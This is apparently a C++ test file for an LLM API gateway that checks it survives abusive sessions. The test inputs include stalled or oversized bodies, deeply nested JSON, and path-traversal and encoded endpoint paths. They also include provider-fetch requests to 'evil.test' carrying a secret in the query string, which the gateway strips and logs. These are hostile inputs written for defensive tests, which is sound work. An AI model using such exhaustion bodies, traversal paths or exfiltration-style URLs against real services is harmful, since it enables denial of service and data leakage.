// Sessions that would take what others need, or have the provider fetch for them; and what the log then has. The
// real process, as in gateway_test.cc.
#include <gtest/gtest.h>
#include <openssl/sha.h>
#include <sys/socket.h>

#include <fstream>

#include "gateway/gateway_rig.h"
#include "policies/delegated_fetch.h"

namespace oqto::gateway::test {
namespace {

using ipc::FieldKey;

const std::string kOpenAi = "/o/v1/chat/completions";
const std::string kAnthropic = "/a/v1/messages";
const std::string kDemo = "/demo/v1/chat/completions";

std::string providers(const Mock& mock) {
  return "[[provider]]\nname = \"o\"\nkind = \"openai\"\nbase_url = \"" + mock.url() +
         "/v1\"\nkey = \"sk-of-the-provider\"\n[[provider.model]]\nid = \"gpt\"\n" +
         "[[provider]]\nname = \"a\"\nkind = \"anthropic\"\nbase_url = \"" + mock.url() +
         "\"\nkey = \"sk-of-the-provider\"\n[[provider.model]]\nid = \"claude\"\n[[provider]]\nname = \"demo\"\nkind = \"demo\"\n";
}
std::string ask(const std::string& model, const std::string& content = "\"hi\"", const std::string& more = "") {
  return R"({"model":")" + model + R"(","messages":[{"role":"user","content":)" + content + "}]" + more + "}";
}
std::string sha256_of(const std::string& text) {
  std::array<std::uint8_t, SHA256_DIGEST_LENGTH> sum{};
  (void)::SHA256(reinterpret_cast<const unsigned char*>(text.data()), text.size(), sum.data());
  return to_hex(sum);
}

class GatewayAbuse : public ::testing::Test {
 protected:
  Mock mock_;
};

// --- room and time ---

std::string announced(std::size_t bytes) {
  return "POST " + kOpenAi + " HTTP/1.1\r\nHost: x\r\nContent-Length: " + std::to_string(bytes) + "\r\n\r\n{";
}

TEST_F(GatewayAbuse, AttackBodiesThatAreAnnouncedAndDoNotComeTakeNoRoom) {
  Rig rig(providers(mock_));
  std::vector<std::unique_ptr<Pi>> attackers;
  std::vector<Fd> calls;
  for (std::uint32_t account = 20; account < 26; ++account) {
    attackers.push_back(std::make_unique<Pi>(rig, account));
    for (int i = 0; i < 3; ++i) calls.push_back(attackers.back()->send(announced(32 << 20)));
  }
  Pi other(rig, 8);
  Pi own(rig, 20);
  EXPECT_EQ(other.post(kOpenAi, ask("gpt")).status, 200);
  EXPECT_EQ(own.post(kOpenAi, ask("gpt")).status, 200) << "nor of its own account's others";
}

// What has come, of six accounts that send all they may and stop before the end, leaves room for others.
TEST_F(GatewayAbuse, AttackBodiesThatComeAndDoNotEndLeaveRoomForOthers) {
  Rig rig(providers(mock_));
  std::vector<std::unique_ptr<Pi>> attackers;
  std::vector<Fd> calls;
  const std::string most(31 << 20, ' ');
  for (std::uint32_t account = 20; account < 23; ++account) {
    attackers.push_back(std::make_unique<Pi>(rig, account));
    for (int i = 0; i < 5; ++i) calls.push_back(attackers.back()->send(announced(32 << 20) + most));
  }
  Pi other(rig, 8);
  EXPECT_EQ(other.post(kOpenAi, ask("gpt", '"' + std::string(4 << 20, 'x') + '"')).status, 200);
}

TEST_F(GatewayAbuse, AttackDeepAndWideBodiesAreRefusedAndOthersAnswered) {
  Rig rig(providers(mock_));
  Pi attacker(rig, 20);
  Pi other(rig, 8);
  const std::string nest = R"({"model":"gpt","messages":)" + std::string(20 << 20, '[');
  std::string flat = R"({"model":"gpt","messages":[0)";
  for (int i = 0; i < 10 << 20; ++i) flat += ",0";
  flat += "]}";
  for (const std::string& body : {nest, flat}) {
    std::vector<Fd> calls;
    for (int i = 0; i < 3; ++i) calls.push_back(attacker.begin(kOpenAi, body));
    EXPECT_EQ(other.post(kOpenAi, ask("gpt")).status, 200);
    for (const Fd& call : calls) {
      EXPECT_NE(attacker.read_until(call, "\r\n\r\n").find(" 400 "), std::string::npos);
    }
  }
}

TEST_F(GatewayAbuse, AttackTheDemoTakesNoLargeRequestsAndGivesItsMemoryBack) {
  Rig rig(providers(mock_));
  Pi attacker(rig, 20);
  EXPECT_EQ(attacker.post(kDemo, ask("demo", '"' + std::string(9 << 20, 'x') + '"')).status, 413);
  std::string many = "[";
  for (int i = 0; i < 40'000; ++i) many += (i == 0 ? "" : ",") + std::string(R"({"type":"text","text":"x"})");
  for (int i = 0; i < 8; ++i) EXPECT_EQ(attacker.post(kDemo, ask("demo", many + "]")).status, 200);
  // What it holds now, and has ever held.
  std::ifstream status("/proc/" + std::to_string(rig.pid()) + "/status");
  std::string line;
  long peak_kib = 0, now_kib = 0;
  while (std::getline(status, line)) {
    if (line.starts_with("VmHWM:")) peak_kib = std::atol(&line[6]);
    if (line.starts_with("VmRSS:")) now_kib = std::atol(&line[6]);
  }
  EXPECT_GT(peak_kib, 0);
#if !defined(__SANITIZE_ADDRESS__) && !defined(__SANITIZE_THREAD__)
  EXPECT_LT(peak_kib, 256 * 1024);
  EXPECT_LT(now_kib, 128 * 1024);
#endif
}

// --- what a request asks of the provider ---

TEST_F(GatewayAbuse, AttackARequestThatMakesTheProviderFetchIsCutAndTheLogSaysSo) {
  Rig rig(providers(mock_));
  Pi pi(rig);
  const std::string image = R"([{"type":"text","text":"look"},{"type":"image_url","image_url":{"url":"https://evil.test/?q=secret"}}])";
  EXPECT_EQ(pi.post(kOpenAi, ask("gpt", image, R"(,"web_search_options":{},"stream":false)")).status, 200);
  const ipc::AuditAppend first = rig.audit.wait_event(ipc::Event::denial);
  EXPECT_EQ(field(first, FieldKey::capability), "image_url");
  EXPECT_EQ(field(first, FieldKey::member), "messages[0].content[1].image_url");
  EXPECT_EQ(field(first, FieldKey::host), "evil.test");
  EXPECT_EQ(field(first, FieldKey::session), pi.session.text());
  const ipc::AuditAppend second = rig.audit.wait_event(ipc::Event::denial);
  EXPECT_EQ(field(second, FieldKey::member), "web_search_options");
  const std::string seen = mock_.get("/__mock/requests");
  EXPECT_EQ(seen.find("evil.test"), std::string::npos) << seen;
  EXPECT_EQ(seen.find("web_search_options"), std::string::npos) << seen;
  EXPECT_NE(seen.find("look"), std::string::npos) << seen;
  EXPECT_EQ(pi.post(kAnthropic, ask("claude", "\"hi\"", R"(,"max_tokens":9,"mcp_servers":[{"type":"url","url":"https://evil.test"}])")).status, 200);
  EXPECT_EQ(field(rig.audit.wait_event(ipc::Event::denial), FieldKey::capability), "mcp");
  EXPECT_EQ(mock_.get("/__mock/requests").find("evil.test"), std::string::npos);
}

TEST_F(GatewayAbuse, WhatTheSessionsPolicyAllowsIsPassedOn) {
  Rig rig(providers(mock_));
  ipc::OpenGate gate;
  gate.account = 7;
  gate.delegated_fetch = policies::fetch_bit(policies::Fetch::image_url);
  Pi pi(rig, gate);
  const std::string image = R"([{"type":"image_url","image_url":{"url":"https://good.test/a.png"}}])";
  EXPECT_EQ(pi.post(kOpenAi, ask("gpt", image)).status, 200);
  EXPECT_NE(mock_.get("/__mock/requests").find("good.test"), std::string::npos);
}

TEST_F(GatewayAbuse, AttackOtherEndpointsOfAProviderAreNotReached) {
  Rig rig(providers(mock_));
  Pi pi(rig);
  for (const char* target : {"/o/v1/responses", "/o/v1/files", "/o/v1/completions", "/o/v1/chat/completions/", "/o//v1/chat/completions",
                             "/o/v1/assistants", "/o/v1/containers", "/a/v1/messages/batches", "/a/v1/files", "/a/v1/complete",
                             "/a/v1/messages/count_tokens", "/o/v1/../v1/responses", "/o/v1/chat%2fcompletions"}) {
    EXPECT_EQ(pi.post(target, ask("gpt")).status, 404) << target;
  }
  EXPECT_NE(mock_.get("/__mock/state").find(R"("requests":0)"), std::string::npos);
}

// --- what was said ---

TEST_F(GatewayAbuse, TheLogHasTheHashOfWhatWasSentAndOfWhatCameBack) {
  mock_.script(R"({"turns":[{"text":"hello","usage":{"input":3,"output":4}}]})");
  Rig rig(providers(mock_));
  Pi pi(rig);
  const std::string body = ask("gpt", "\"hi\"", R"(,"stream":true)");
  const Answer answer = pi.post(kOpenAi, body);
  const ipc::AuditAppend intent = rig.audit.wait_record(ipc::Phase::intent);
  EXPECT_EQ(field(intent, FieldKey::request_sha256), sha256_of(body));
  EXPECT_EQ(field(intent, FieldKey::request_blob), "(none)");
  const ipc::AuditAppend outcome = rig.audit.wait_record(ipc::Phase::outcome);
  EXPECT_EQ(field(outcome, FieldKey::request_sha256), sha256_of(body));
  EXPECT_EQ(field(outcome, FieldKey::response_sha256), sha256_of(answer.body));
  EXPECT_EQ(field(outcome, FieldKey::response_blob), "(none)");
}

TEST_F(GatewayAbuse, TheLogKeepsWhatWasSaidWhereThePolicySaysSoOrWhyNot) {
  mock_.script(R"({"turns":[{"text":"hello","usage":{"input":3,"output":4}}]})");
  Rig rig(providers(mock_));
  ipc::OpenGate gate;
  gate.account = 7;
  gate.audit_contents = 1;
  Pi pi(rig, gate);
  const std::string body = ask("gpt", "\"keep me\"", R"(,"stream":true)");
  const Answer answer = pi.post(kOpenAi, body);
  const ipc::AuditAppend intent = rig.audit.wait_record(ipc::Phase::intent);
  EXPECT_EQ(rig.audit.blob(field(intent, FieldKey::request_blob)), std::pair(body, std::uint32_t{7}));
  const ipc::AuditAppend outcome = rig.audit.wait_record(ipc::Phase::outcome);
  EXPECT_EQ(rig.audit.blob(field(outcome, FieldKey::response_blob)), std::pair(answer.body, std::uint32_t{7}));
  rig.audit.refuse_blobs(true);
  EXPECT_EQ(pi.post(kOpenAi, body).status, 200);
  const ipc::AuditAppend without = rig.audit.wait_record(ipc::Phase::intent);
  EXPECT_EQ(field(without, FieldKey::request_sha256), sha256_of(body));
  EXPECT_EQ(field(without, FieldKey::request_blob), "(none)");
  EXPECT_EQ(field(without, FieldKey::reason), "the request was not kept: no more today");
  EXPECT_EQ(field(rig.audit.wait_record(ipc::Phase::outcome), FieldKey::reason), "the response was not kept: no more today");
}

}  // namespace
}  // namespace oqto::gateway::test
